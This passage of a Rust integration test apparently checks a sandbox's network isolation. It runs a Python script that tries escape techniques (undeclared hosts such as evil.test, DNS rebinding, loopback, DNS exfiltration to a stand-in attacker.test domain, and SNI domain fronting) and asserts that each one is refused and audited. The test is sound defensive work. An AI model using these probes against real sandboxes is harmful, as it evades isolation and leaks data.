attempt("undeclared", lambda: get("evil.test", 8080))
attempt("literal", lambda: exchange("203.0.113.10", 8080))
attempt("rebound", lambda: get("loop.test", 8080))
attempt("loopback", lambda: exchange("127.0.0.1", 8080))
attempt("resolver", lambda: dns_udp("203.0.113.53", "nobody-exfil.attacker.test", 1))
attempt("fronting", lambda: first_flight(resolve("api.test"), 8443, [client_hello("evil.test")]))
finish()
"#
        ),
    );
    let run = Run::of(&mut run_command(
        s.world.spawnd_as(65534, 65534, &config),
        &m,
        "py",
        &[arg],
    ));
    let r = results(&run);
    assert_eq!(run.json["data"]["isolation"]["uid"], 65534, "{}", run.json);
    assert_eq!(result(&r, "granted"), "reply:api", "{r}");
    assert_eq!(api.accepted(), 1);
    assert_eq!(result(&r, "undeclared"), "gaierror", "{r}");
    assert_eq!(result(&r, "literal"), "ECONNRESET", "{r}");
    assert_not_served(&r, "rebound");
    assert_not_served(&r, "loopback");
    assert_eq!(loopback.accepted(), 0);
    assert_eq!(result(&r, "resolver"), "EPERM", "{r}");
    assert_ne!(result(&r, "fronting"), "answered", "{r}");
    assert!(eventually(|| tls.closed() == 1), "{}", tls.closed());
    assert_eq!(tls.bytes(), [0]);
    for label in ["raw_udp", "raw_icmp", "raw_v6"] {
        assert_eq!(result(&r, label), "EPERM", "{label}: {r}");
    }
    assert_eq!(udp.received(), 0);
    assert!(
        asked(&s.world)
            .iter()
            .all(|n| n == "api.test" || n == "loop.test"),
        "{:?}",
        asked(&s.world)
    );
    let records = net_records(&s.world.path("nobody/audit.jsonl"));
    refusal_record(&records, "loop.test", 8080, "resolved_to_denied_address");
    refusal_record(&records, "api.test", 8443, "sni_mismatch");
    refusal_record(&records, "127.0.0.1", 8080, "not_granted");
    refusal_record(&records, "203.0.113.10", 8080, "not_granted");
    datagram_refusal(&records, "203.0.113.53", 53);
}
